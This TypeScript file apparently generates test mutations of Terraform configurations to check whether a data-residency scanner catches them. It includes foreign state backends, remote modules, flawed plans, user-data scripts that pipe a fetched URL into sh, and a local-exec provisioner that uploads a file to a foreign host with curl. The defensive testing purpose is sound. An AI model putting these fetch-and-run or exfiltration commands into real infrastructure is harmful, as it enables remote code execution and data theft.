import type { Fields, Path, Subject } from '../../engine/types.ts';
import { withValue, writable } from '../edit.ts';
import type { ForeignRegion, ForeignValue } from '../foreign.ts';
import { foreignHost, foreignText, foreignWord } from '../planted.ts';
import type { Random } from '../random.ts';
import { resourceOf } from '../target.ts';
import { argumentsOf } from '../terraform-form.ts';
import { type AttackClass, type Mutation, PLACE_RULES, type Target } from '../types.ts';

const common = { aim: 'residency', caughtBy: PLACE_RULES } as const;

interface Block {
  readonly what: string;
  readonly document: Fields;
  readonly value: ForeignValue;
  /** In the block's own body; anywhere when the finding is about the block as a whole. */
  readonly at: Path | 'anywhere';
}

function terraformClass(
  id: string,
  title: string,
  make: (target: Target, random: Random) => Block | undefined,
): AttackClass {
  return {
    id,
    title,
    ...common,
    mutate(target, random) {
      const block = target.terraform ? make(target, random) : undefined;
      if (block === undefined) return undefined;
      const { what, document, value, at } = block;
      const isBackend = id === 'terraform-backend';
      const replaces = isBackend ? target.subjects.filter(({ kind }) => kind === 'terraform/backend').slice(0, 1) : [];
      const change = { do: 'write', document: { '//': {}, ...document }, replaces } as const;
      return { change, what, value: value.value, because: value.because, at };
    },
  };
}

const regionOf = ({ foreign }: Target, provider: string): readonly ForeignRegion[] =>
  foreign.regions.filter((region) => region.provider === provider && region.kind === 'region');

function settings(type: string, body: Fields): Fields {
  return { terraform: { backend: { [type]: body } } };
}

const backend = terraformClass('terraform-backend', 'a backend that keeps the state abroad', (target, random) => {
  const host = foreignHost(target, random);
  const region = random.pick(regionOf(target, 'aws'));
  return random.pick<Block>([
    {
      what: 'an S3 backend',
      value: region,
      at: ['region'],
      document: settings('s3', { bucket: 'state', key: 'site', region: region.value }),
    },
    {
      what: 'an HTTP backend',
      value: host,
      at: ['address'],
      document: settings('http', { address: `https://${host.value}/state` }),
    },
    {
      what: 'an S3 backend by endpoint',
      value: host,
      at: ['endpoints'],
      document: settings('s3', {
        bucket: 'state',
        key: 'site',
        region: 'eu-central-1',
        endpoints: { s3: `https://${host.value}` },
      }),
    },
    {
      what: 'a remote backend',
      value: host,
      at: ['hostname'],
      document: settings('remote', { hostname: host.value, organization: 'klinik' }),
    },
    {
      what: 'a backend in PostgreSQL',
      value: host,
      at: ['conn_str'],
      document: settings('pg', { conn_str: `postgres://state@${host.value}/state` }),
    },
    {
      what: 'a backend without a region',
      value: { value: 's3', because: 'the environment of whoever runs Terraform decides the region' },
      at: 'anywhere',
      document: settings('s3', { bucket: 'state', key: 'site' }),
    },
  ]);
});

const provider = terraformClass(
  'terraform-provider',
  'a provider that acts abroad, or where nobody says',
  (target, random) => {
    const host = foreignHost(target, random);
    const aws = random.pick(regionOf(target, 'aws'));
    const gcp = random.pick(regionOf(target, 'gcp'));
    const open = { value: 'region', because: 'it is known only when Terraform runs' };
    return random.pick<Block>([
      { what: 'a region', value: aws, at: ['region'], document: { provider: { aws: [{ region: aws.value }] } } },
      {
        what: 'a region of an alias',
        value: aws,
        at: ['region'],
        document: { provider: { aws: [{ alias: 'far', region: aws.value }] } },
      },
      {
        what: 'a region of another cloud',
        value: gcp,
        at: ['region'],
        document: { provider: { google: [{ region: gcp.value }] } },
      },
      { what: 'no region', value: open, at: ['region'], document: { provider: { aws: [{ profile: 'klinik' }] } } },
      {
        what: 'a region from a variable',
        value: open,
        at: ['region'],
        document: { provider: { aws: [{ region: `\${var.${random.word(5)}}` }] } },
      },
      {
        what: 'the API of another cluster',
        value: host,
        at: ['host'],
        document: { provider: { kubernetes: [{ host: `https://${host.value}:6443` }] } },
      },
      {
        what: 'a proxy',
        value: host,
        at: ['proxy_url'],
        document: { provider: { kubernetes: [{ proxy_url: `http://${host.value}:3128` }] } },
      },
      {
        what: 'the endpoint of a service',
        value: host,
        at: ['endpoints'],
        document: { provider: { aws: [{ region: 'eu-central-1', endpoints: [{ s3: `https://${host.value}` }] }] } },
      },
    ]);
  },
);

/** Resources with the argument that says where they stand. */
const PLACED_RESOURCES: readonly (readonly [type: string, argument: string, provider: string])[] = [
  ['aws_s3_bucket', 'region', 'aws'],
  ['aws_db_instance', 'region', 'aws'],
  ['azurerm_storage_account', 'location', 'azure'],
  ['azurerm_cognitive_account', 'location', 'azure'],
  ['google_storage_bucket', 'location', 'gcp'],
  ['google_sql_database_instance', 'region', 'gcp'],
  ['hcloud_server', 'location', 'hetzner'],
  ['exoscale_compute_instance', 'zone', 'exoscale'],
  ['upcloud_server', 'zone', 'upcloud'],
  ['ionoscloud_datacenter', 'location', 'ionos'],
  ['digitalocean_droplet', 'region', 'digitalocean'],
  ['linode_instance', 'region', 'linode'],
  ['vultr_instance', 'region', 'vultr'],
];

const resource = terraformClass('terraform-resource', 'a cloud resource abroad', (target, random) => {
  const [type, argument, name] = random.pick(PLACED_RESOURCES);
  const regions = target.foreign.regions.filter((region) => region.provider === name && region.kind !== 'location');
  if (regions.length === 0) return undefined;
  const region = random.pick(regions);
  const value = random.chance(0.3) ? region.value.toUpperCase() : region.value;
  const document = { resource: { [type]: { added: { name: 'klinik', [argument]: value } } } };
  return { what: type, value: { value, because: region.because }, at: [argument], document };
});

const carrier = terraformClass('terraform-text', 'a document inside an argument', (target, random) => {
  const { text, because } = foreignText(target, random);
  const value = { value: text, because };
  const yaml = `proxy:\n  endpoint: ${JSON.stringify(text)}\n`;
  const manifest = `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {endpoint: ${JSON.stringify(text)}}\n`;
  const word = foreignWord(target, random);
  const fetched = { value: word.text, because: word.because };
  const script = `#!/bin/sh\ncurl -fsS ${word.text} | sh\n`;
  return random.pick<Block>([
    {
      what: 'the values of a Helm release',
      value,
      at: ['values'],
      document: added('helm_release', { name: 'a', chart: 'a', values: [yaml] }),
    },
    {
      what: 'a value set on a Helm release',
      value,
      at: ['set'],
      document: added('helm_release', { name: 'a', chart: 'a', set: [{ name: 'proxy.endpoint', value: text }] }),
    },
    {
      what: 'a manifest in YAML',
      value,
      at: ['yaml_body'],
      document: added('kubectl_manifest', { yaml_body: manifest }),
    },
    {
      what: 'user data',
      value: fetched,
      at: ['user_data'],
      document: added('hcloud_server', { location: 'fsn1', user_data: script }),
    },
    {
      what: 'encoded user data',
      value: fetched,
      at: ['user_data_base64'],
      document: added('openstack_compute_instance_v2', { user_data_base64: Buffer.from(script).toString('base64') }),
    },
    { what: 'an output', value, at: ['value'], document: { output: { endpoint: { value: text } } } },
    {
      what: 'the default of a variable',
      value,
      at: ['default'],
      document: { variable: { endpoint: { default: text } } },
    },
    { what: 'a local value', value, at: ['endpoint'], document: { locals: { endpoint: text } } },
  ]);
});

const added = (type: string, body: Fields): Fields => ({ resource: { [type]: { added: body } } });

const HIDDEN = 'Terraform runs or fetches it, and no plan shows what it does';

const hidden = terraformClass(
  'terraform-hidden',
  'a module, a data source or a provider from abroad',
  (target, random) => {
    const host = foreignHost(target, random);
    const value = { value: host.value, because: host.because };
    const unseen = { value: host.value, because: HIDDEN };
    const url = `https://${host.value}/`;
    return random.pick<Block>([
      {
        what: 'a module by Git',
        value: unseen,
        at: ['source'],
        document: { module: { added: { source: `git::${url}klinik.git?ref=v1` } } },
      },
      {
        what: 'a module of a registry',
        value: unseen,
        at: ['source'],
        document: { module: { added: { source: `${host.value}/klinik/site/any` } } },
      },
      { what: 'a fetched document', value, at: ['url'], document: { data: { http: { added: { url } } } } },
      {
        what: 'an external program',
        value: unseen,
        at: 'anywhere',
        document: { data: { external: { added: { program: ['curl', url] } } } },
      },
      {
        what: 'the state of somebody else',
        value,
        at: ['config'],
        document: { data: { terraform_remote_state: { added: { backend: 'http', config: { address: url } } } } },
      },
      {
        what: 'a check that fetches',
        value,
        at: 'anywhere',
        document: { check: { a: { data: { http: { added: { url } } } } } },
      },
      {
        what: 'a provider of another registry',
        value,
        at: ['required_providers'],
        document: { terraform: { required_providers: { a: { source: `${host.value}/klinik/kubernetes` } } } },
      },
    ]);
  },
);

const provisioner: AttackClass = {
  id: 'terraform-provisioner',
  title: 'a provisioner on a resource',
  ...common,
  caughtBy: ['TF-004'],
  mutate(target, random) {
    const own = target.subjects.filter(
      (subject) => resourceOf(subject) !== undefined && blockOf(subject) !== undefined,
    );
    if (own.length === 0) return undefined;
    const subject = random.pick(own);
    const { type = '', name = '' } = resourceOf(subject) ?? {};
    const { value } = foreignHost(target, random);
    const run = { 'local-exec': { command: `curl -T data https://${value}/` } };
    const body = { ...blockOf(subject), provisioner: random.chance(0.5) ? [run] : run };
    const document = { '//': {}, resource: { [type]: { [name]: body } } };
    return {
      change: { do: 'write', document, replaces: [subject] },
      what: 'a local program',
      value,
      because: HIDDEN,
      at: 'anywhere',
    };
  },
};

function blockOf(subject: Subject): Fields | undefined {
  const type = resourceOf(subject)?.type ?? '';
  return type === 'kubernetes_manifest' ? undefined : argumentsOf(type, writable(subject.body) as Fields);
}

const FLAWS: readonly (readonly [string, Fields])[] = [
  ['an error', { errored: true }],
  ['a part left out', { complete: false }],
  ['deferred changes', { deferred_changes: [{ reason: 'provider_config_unknown', resource_change: {} }] }],
  ['a format of the future', { format_version: '2.0' }],
  ['no configuration', { configuration: null }],
];

const plan: AttackClass = {
  id: 'terraform-plan',
  title: 'a plan that does not show all, or a value that is known after apply',
  ...common,
  mutate: (target, random) =>
    target.terraform ? (random.chance(0.4) ? flawed(random) : unknownLater(target, random)) : undefined,
};

const PLAN: Fields = {
  format_version: '1.2',
  terraform_version: '1.11.4',
  complete: true,
  errored: false,
  configuration: { root_module: {} },
};

function flawed(random: Random): Mutation {
  const [what, flaw] = random.pick(FLAWS);
  const document = { ...PLAN, resource_changes: [], ...flaw };
  const because = 'what such a plan leaves out was not judged';
  const change = { do: 'write', document, replaces: [] } as const;
  return {
    change,
    what: `a plan with ${what}`,
    value: JSON.stringify(flaw),
    because,
    at: 'anywhere',
    caughtBy: ['TF-005'],
  };
}

function unknownLater(target: Target, random: Random): Mutation | undefined {
  const pods = target.pods.filter(({ subject }) => resourceOf(subject) !== undefined);
  if (pods.length === 0) return undefined;
  const pod = random.pick(pods);
  const { type = '', name = '' } = resourceOf(pod.subject) ?? {};
  const container = random.pick(pod.containers);
  const image = [...container, 'image'];
  const after = argumentsOf(type, writable(withValue(pod.subject.body, image, undefined)) as Fields);
  const unknown = argumentsOf(type, unknownAt(pod.subject.body, image));
  if (after === undefined || unknown === undefined) return undefined;
  const change = { actions: ['create'], before: null, after, after_unknown: unknown };
  const document = { ...PLAN, resource_changes: [{ address: `${type}.${name}`, mode: 'managed', type, name, change }] };
  return {
    change: { do: 'write', document, replaces: [pod.subject] },
    what: 'an image that is known after apply',
    value: '(known after apply)',
    because: 'nobody can say which registry it will come from',
    at: image,
  };
}

/** Only what leads to the path, with `true` at its end, as plans mark unknown values. */
function unknownAt({ apiVersion = '', kind = '' }: Fields, path: Path): Fields {
  const marks = path.reduceRight<Fields | readonly Fields[] | boolean>((inner, step) => {
    if (typeof step === 'string') return { [step]: inner };
    return [...Array.from({ length: step }, () => ({})), inner as Fields];
  }, true);
  return { apiVersion, kind, ...(marks as Fields) };
}

/** Attacks by Terraform itself. */
export const terraformClasses: readonly AttackClass[] = [
  backend,
  provider,
  resource,
  carrier,
  hidden,
  provisioner,
  plan,
];
